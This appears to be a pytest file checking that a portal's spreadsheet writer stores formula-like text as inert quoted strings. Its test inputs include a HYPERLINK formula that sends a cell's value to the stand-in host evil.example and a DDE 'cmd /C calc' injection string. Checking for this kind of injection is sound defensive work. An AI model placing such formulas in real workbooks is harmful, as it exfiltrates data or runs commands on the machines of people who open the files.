"""The portal's one workbook writer (common/xlsx.py): text stays text however a writer put it there."""

import io
from decimal import Decimal

import openpyxl

from common.xlsx import append_row, new_workbook, put, workbook_bytes

LINK = '=HYPERLINK("http://evil.example/?"&C6,"园林街道")'


def _reopened(book) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(workbook_bytes(book)))


def test_a_formula_assigned_around_the_writer_is_saved_as_quoted_text():
    book = new_workbook()
    book.active["A1"] = LINK  # openpyxl alone would store a live formula
    book.active["A2"] = "+1+cmd|' /C calc'!A0"

    sheet = _reopened(book).active

    assert sheet["A1"].value == LINK and sheet["A1"].data_type == "s" and sheet["A1"].quotePrefix
    assert sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix


def test_an_appended_row_keeps_text_as_text_and_figures_as_numbers():
    book = new_workbook()
    append_row(book.active, ["标题"])

    row = append_row(book.active, [LINK, "@SUM(1)", Decimal("12.5"), 7, None, "园林街道"])

    sheet = _reopened(book).active
    cells = sheet[row]
    assert row == 2
    assert [c.data_type for c in cells[:2]] == ["s", "s"] and all(c.quotePrefix for c in cells[:2])
    assert cells[2].value == 12.5 and cells[3].value == 7 and cells[4].value is None
    assert cells[5].value == "园林街道" and not cells[5].quotePrefix


def test_text_like_an_excel_error_stays_text():
    book = new_workbook()
    put(book.active["A1"], "#N/A")

    cell = _reopened(book).active["A1"]

    assert cell.value == "#N/A" and cell.data_type == "s"


def test_a_control_character_in_a_name_is_replaced_instead_of_failing_the_export():
    book = new_workbook()
    put(book.active["A1"], "园林\x01街道")

    assert _reopened(book).active["A1"].value == "园林\N{REPLACEMENT CHARACTER}街道"


def test_saving_creates_no_cells_of_its_own():
    # The save walks the cells that exist (Worksheet._cells, a private attribute of the pinned openpyxl).
    book = new_workbook()
    book.active["C3"] = 1
    workbook_bytes(book)

    assert list(book.active._cells) == [(3, 3)]
